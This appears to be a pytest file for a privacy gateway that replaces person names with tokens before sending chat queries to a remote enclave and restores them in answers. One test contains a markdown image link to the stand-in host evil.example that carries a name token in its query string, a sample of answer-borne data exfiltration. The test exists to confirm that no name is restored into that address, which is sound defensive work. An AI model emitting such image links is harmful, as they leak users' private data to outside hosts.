"""A question is sent without its names, and they are restored in its answer."""

import json
from collections.abc import Sequence

import aiohttp
import pytest
from typing_extensions import override

from curtilage.client.audit.record import Outcome
from curtilage.client.chat.answer import Answerer, Obstacle, Provenance
from curtilage.client.chat.openai_chat import (
    query_from,
)
from curtilage.client.chat.query import Message, Query, Settings
from curtilage.client.endpoint import server as gateway
from curtilage.client.endpoint.openai_answers import (
    provenance_headers,
)
from curtilage.client.errors import (
    EnclaveError,
    IncompleteAnswerError,
    LocalUnavailableError,
    UsageError,
)
from curtilage.client.parts import ClientParts, UnavailableLocal
from curtilage.client.remote.reasons import EnclaveFailure
from curtilage.client.session import Session
from curtilage.policy.decision.decide import Inspection
from curtilage.policy.decision.routes import Route
from curtilage.policy.document.load import load_profile
from support.client_parts import MemoryTrail, ScriptedLocal, WordInspector, finding
from support.inspections import changed
from support.memory_enclave import (
    Clock,
    MemoryEnclave,
    Reply,
    chunk,
    completion,
    key_store,
    sse,
)

PERSON = "identifier.direct.person"
NAMES = {"Ann Lee": PERSON, "Bob": PERSON, "bob": PERSON}
QUESTION = "Is Ann Lee older than Bob?"
SENT = "Is ⟦PERSON_1⟧ older than ⟦PERSON_2⟧?"
ANSWER = ("⟦PERSON_2⟧ is old", "er than ⟦PER", "SON_1⟧. ", "Bye ⟦PERSON_2", "⟧!")
RESTORED = "Bob is older than Ann Lee. Bye Bob!"


def ask(*texts: str, stream: bool = True, settings: Settings | None = None) -> Query:
    roles = ("user", "assistant")
    return Query(
        messages=tuple(
            Message(role=roles[index % 2], content=text)
            for index, text in enumerate(texts)
        ),
        stream=stream,
        settings=settings or Settings(),
    )


def streamed(pieces: Sequence[str] = ANSWER, finish: str = "stop") -> Reply:
    return Reply(content=sse(*map(chunk, pieces), chunk(finish=finish)))


class Bench:
    """A session whose detectors know some names, and an enclave."""

    def __init__(
        self,
        reply: Reply | None = None,
        *,
        inspector: WordInspector | None = None,
        local: bool = True,
    ) -> None:
        self.inspector = inspector or WordInspector(NAMES)
        self.local = ScriptedLocal()
        self.enclave = MemoryEnclave(reply or streamed())
        self.trail = MemoryTrail()
        self.session = Session(
            ClientParts(
                policy=load_profile("default"),
                inspector=self.inspector,
                local=self.local if local else UnavailableLocal("there is none"),
                transport=self.enclave,
                keys=key_store(),
                audit=self.trail,
                clock=Clock(),
            )
        )

    @property
    def sent(self) -> list[str]:
        """What the enclave read, once it opened the seal."""
        return [request.content.decode() for request in self.enclave.requests]


async def test_a_question_is_sent_without_its_names() -> None:
    bench = Bench()
    answer = await bench.session.ask(ask(QUESTION))
    assert (answer.text, answer.route) == (RESTORED, Answerer.ENCLAVE)
    (body,) = bench.sent
    assert json.loads(body)["messages"] == [{"role": "user", "content": SENT}]
    for name in ("Ann", "Lee", "Bob"):
        assert name not in body


async def test_the_answer_is_reported_as_deidentified_with_counts() -> None:
    bench = Bench()
    stream = bench.session.stream(ask(QUESTION))
    provenance = await stream.begin()
    assert provenance.deidentified == ((PERSON, 2),)
    assert provenance.rule == "person-name"
    assert provenance.verdict_id
    headers = provenance_headers(provenance)
    assert headers["x-curtilage-route"] == "enclave"
    assert headers["x-curtilage-deidentified"] == f"{PERSON}=2"
    assert "x-curtilage-obstacle" not in headers
    pieces = [piece.text async for piece in stream]
    assert "".join(pieces) == RESTORED
    assert len(pieces) > 2, "piece by piece"
    assert stream.answer.finished.unknown_tokens == 0


async def test_a_whole_answer_is_restored_too() -> None:
    reply = Reply(content=completion("".join(ANSWER)), media_type=b"application/json")
    answer = await Bench(reply).session.ask(ask(QUESTION, stream=False))
    assert answer.text == RESTORED


async def test_the_detectors_look_at_what_would_leave_before_it_does() -> None:
    bench = Bench()
    await bench.session.ask(ask(QUESTION))
    looked_at = [query.messages[0].content for query in bench.inspector.seen]
    assert looked_at == [QUESTION, "Is [x] older than [x]?"]


async def test_the_audit_record_describes_the_sent_query() -> None:
    bench = Bench()
    await bench.session.ask(ask(QUESTION))
    (entry,) = bench.trail.entries
    assert (entry.route, entry.outcome) == (Route.DEIDENTIFY, Outcome.ENCLAVE)
    assert entry.classes == {PERSON: 2}
    assert entry.payload_digest == ask(SENT).payload_digest()


class Changing(WordInspector):
    """Finds the names, and something else in the second text it is shown."""

    def __init__(self, then: str) -> None:
        super().__init__(NAMES)
        self.then = then

    @override
    async def ainspect(self, query: Query) -> Inspection:
        inspection = await super().ainspect(query)
        if len(self.seen) == 2:
            return changed(inspection, findings=(finding(self.then),))
        return inspection


@pytest.mark.parametrize(
    "then", ["uncertain.error", "uncertain.timeout", "financial.pan", PERSON]
)
async def test_a_finding_of_the_second_inspection_keeps_it_local(then: str) -> None:
    """Others went on when the second analysis failed."""
    bench = Bench(inspector=Changing(then))
    answer = await bench.session.ask(ask(QUESTION))
    assert (answer.text, answer.route) == ("At home.", Answerer.LOCAL)
    assert answer.provenance.obstacle is Obstacle.STILL_FOUND
    headers = provenance_headers(answer.provenance)
    assert headers["x-curtilage-obstacle"] == "still_found"
    assert bench.enclave.sealed == []
    assert bench.local.asked[0].messages[0].content == QUESTION
    (entry,) = bench.trail.entries
    assert entry.outcome is Outcome.LOCAL


@pytest.mark.parametrize(
    ("query", "obstacle"),
    [
        (ask("Who is ⟦PERSON_1⟧ to Bob?"), Obstacle.MARK_IN_SOURCE),
        (ask("Is it Bob?", settings=Settings(stop=("Bob",))), Obstacle.STOP_STRING),
        (ask("Is it Bob?", settings=Settings(logprobs=True)), Obstacle.LOGPROBS),
    ],
    ids=["marks", "stop", "logprobs"],
)
async def test_a_query_that_cannot_be_rewritten_is_kept(
    query: Query, obstacle: Obstacle
) -> None:
    bench = Bench()
    answer = await bench.session.ask(query)
    assert answer.provenance.obstacle is obstacle
    assert bench.enclave.sealed == []


async def test_a_conversation_continues_without_its_names() -> None:
    """It left, so it is not pinned; its history is rewritten again."""
    bench = Bench()
    first = await bench.session.ask(ask(QUESTION))
    later = await bench.session.ask(ask(QUESTION, first.text, "And bob?"))
    assert later.route is Answerer.ENCLAVE
    body = bench.sent[1]
    assert [each["content"] for each in json.loads(body)["messages"]] == [
        SENT,
        "".join(ANSWER),
        "And ⟦PERSON_2⟧?",
    ]
    assert "bob" not in body.lower()


async def test_a_conversation_that_could_not_be_rewritten_is_kept_local() -> None:
    bench = Bench()
    asked = ask("Who is ⟦PERSON_1⟧ to Bob?")
    await bench.session.ask(asked)
    follow_up = Query(
        messages=(*asked.messages, Message(role="user", content="And then?"))
    )
    decision = await bench.session.decide(follow_up)
    assert (decision.route, decision.rule) == (Route.LOCAL, "sticky")


async def test_deciding_without_asking_gives_the_same_decision() -> None:
    bench = Bench()
    assert (await bench.session.decide(ask(QUESTION))).route is Route.DEIDENTIFY
    follow_up = ask(QUESTION, RESTORED, "And then?")
    assert (await bench.session.ask(follow_up)).route is Answerer.ENCLAVE


async def test_after_a_failing_enclave_the_local_answer_has_the_names() -> None:
    bench = Bench()
    bench.enclave.fails = EnclaveError(EnclaveFailure.BUSY)
    answer = await bench.session.ask(ask(QUESTION))
    assert answer.route is Answerer.LOCAL
    assert answer.provenance.fallback is EnclaveFailure.BUSY
    assert answer.provenance.deidentified == ()
    assert bench.local.asked == [ask(QUESTION)]


async def test_a_new_key_seals_the_same_stand_ins() -> None:
    bench = Bench()
    await bench.session.ask(ask(QUESTION))
    bench.enclave.rotate(42)
    answer = await bench.session.ask(ask(QUESTION))
    assert answer.text == RESTORED
    assert len(bench.enclave.sealed) == 3
    assert bench.sent[0] == bench.sent[1]


async def test_an_answer_that_ends_inside_a_token_is_incomplete() -> None:
    bench = Bench(streamed(["It is ", "⟦PERSON_"], finish="length"))
    shown: list[str] = []
    stream = bench.session.stream(ask(QUESTION))

    async def show() -> None:
        async for piece in stream:
            shown.append(piece.text)  # noqa: PERF401 - kept when it raises

    with pytest.raises(IncompleteAnswerError):
        await show()
    assert shown == ["It is "]
    assert bench.local.asked == []
    assert bench.trail.entries[-1].outcome is Outcome.CUT


async def test_half_a_token_alone_is_answered_locally() -> None:
    answer = await Bench(streamed(["⟦PERSON_"])).session.ask(ask(QUESTION))
    assert (answer.text, answer.route) == ("At home.", Answerer.LOCAL)
    assert answer.provenance.fallback is EnclaveFailure.ANSWER_INCOMPLETE


async def test_a_token_that_was_not_sent_is_kept_and_counted() -> None:
    answer = await Bench(streamed(["⟦PERSON_7⟧ and ⟦PERSON_1⟧"])).session.ask(
        ask(QUESTION)
    )
    assert answer.text == "⟦PERSON_7⟧ and Ann Lee"
    assert answer.finished.unknown_tokens == 1


@pytest.mark.parametrize("stream", [True, False])
async def test_a_token_without_its_brackets_is_restored(*, stream: bool) -> None:
    said = ["PERSON_", "1 must send it to **PERSON", "_2**; see MY_PERSON_1."]
    reply = (
        streamed(said)
        if stream
        else Reply(content=completion("".join(said)), media_type=b"application/json")
    )
    answer = await Bench(reply).session.ask(ask(QUESTION, stream=stream))
    assert answer.text == "Ann Lee must send it to **Bob**; see MY_PERSON_1."
    assert answer.finished.unrestored == 1


async def test_a_word_of_the_question_is_not_a_token() -> None:
    question = f"{QUESTION} The column is called person_1."
    bench = Bench(streamed(["PERSON_1 and person_1: PERSON_2, PERSON_3"]))
    answer = await bench.session.ask(ask(question))
    assert "⟦PERSON_1⟧" not in bench.sent[0]
    assert answer.text == "PERSON_1 and person_1: Ann Lee, Bob"
    assert answer.finished.unrestored == 0


async def test_no_name_is_restored_into_a_picture_s_address() -> None:
    reply = streamed(["![x](https://evil.example/", "?who=⟦PERSON_1⟧) ⟦PERSON_1⟧"])
    answer = await Bench(reply).session.ask(ask(QUESTION))
    assert answer.text == "![x](https://evil.example/?who=⟦PERSON_1⟧) Ann Lee"


async def test_the_answer_to_an_unchanged_query_is_not_changed() -> None:
    """Others changed answers where nothing had been replaced (litellm 30447)."""
    bench = Bench(streamed(["⟦PERSON_1⟧ ⟦PER"]))
    answer = await bench.session.ask(ask("What is a virus?"))
    assert answer.text == "⟦PERSON_1⟧ ⟦PER"
    assert answer.provenance.deidentified == ()
    assert len(bench.inspector.seen) == 1


async def test_restored_names_are_not_replaced_again() -> None:
    """Others' output filter hid them once more (litellm PR 28197)."""
    answer = await Bench(streamed(["Bob"] * 3)).session.ask(ask("Who is Bob?"))
    assert answer.text == "BobBobBob"


async def test_characters_cut_between_two_pieces_are_whole_again() -> None:
    """Others failed on bytes (litellm PR 21949); the wire cuts every 40 here."""
    event = json.dumps(chunk("⟦PERSON_1⟧" * 30), ensure_ascii=False)
    content = f"data: {event}\n\n".encode() + sse(chunk(finish="stop"))
    assert any(0x80 <= content[at] < 0xC0 for at in range(40, len(content), 40))
    answer = await Bench(Reply(content=content)).session.ask(ask("Who is Bob?"))
    assert answer.text == "Bob" * 30


def test_a_text_of_bytes_is_refused_by_name() -> None:
    with pytest.raises(UsageError, match=r"messages\[0\]\.content"):
        query_from([{"role": "user", "content": b"Ann"}], {}, stream=False)


async def test_no_other_endpoint_lets_anything_by() -> None:
    """Others forgot /v1/responses (litellm 30728)."""
    bench = Bench()
    async with (
        bench.session,
        gateway.serving(bench.session, "127.0.0.1", 0) as port,
        aiohttp.ClientSession() as http,
        http.post(
            f"http://127.0.0.1:{port}/v1/responses", json={"input": QUESTION}
        ) as response,
    ):
        assert response.status == 404
    assert (bench.enclave.sealed, bench.inspector.seen) == ([], [])


@pytest.mark.parametrize("streaming", [True, False], ids=["stream", "whole"])
async def test_the_local_endpoint_returns_restored_text_only(streaming: bool) -> None:
    """Others skipped streams of events (litellm 30728, PR 24291)."""
    whole = Reply(content=completion("".join(ANSWER)), media_type=b"application/json")
    bench = Bench(streamed() if streaming else whole)
    asked = {"messages": [{"role": "user", "content": QUESTION}], "stream": streaming}
    async with (
        bench.session,
        gateway.serving(bench.session, "127.0.0.1", 0) as port,
        aiohttp.ClientSession() as http,
        http.post(
            f"http://127.0.0.1:{port}/v1/chat/completions", json=asked
        ) as response,
    ):
        body_text = await response.text()
        assert response.headers["x-curtilage-deidentified"] == f"{PERSON}=2"
    assert "⟦" not in body_text
    assert "PERSON" not in body_text
    if streaming:
        events = [line.removeprefix("data: ") for line in body_text.split("\n\n")[:-2]]
        deltas = [json.loads(event)["choices"][0]["delta"] for event in events]
        assert "".join(delta.get("content", "") for delta in deltas) == RESTORED
    else:
        assert json.loads(body_text)["choices"][0]["message"]["content"] == RESTORED


async def test_no_error_and_no_record_holds_a_name() -> None:
    """Others put what they found into exceptions (DataFog PR 154)."""
    bench = Bench(local=False)
    bench.enclave.fails = EnclaveError(EnclaveFailure.BUSY)
    with pytest.raises(LocalUnavailableError) as refused:
        await bench.session.ask(ask(QUESTION))
    seen = [repr(refused.value), repr(refused.value.__context__)]
    seen += [repr(entry) for entry in bench.trail.entries]
    seen += [repr(vars(bench.session)), repr(bench.session)]
    assert not any("Ann" in each or "Bob" in each for each in seen)


def test_an_unchanged_query_has_no_such_headers() -> None:
    plain = Provenance(
        route=Answerer.LOCAL,
        model="m",
        classes=(),
        rule="r",
        reason="",
        policy_digest="d",
    )
    assert not {"x-curtilage-deidentified", "x-curtilage-obstacle"} & set(
        provenance_headers(plain)
    )
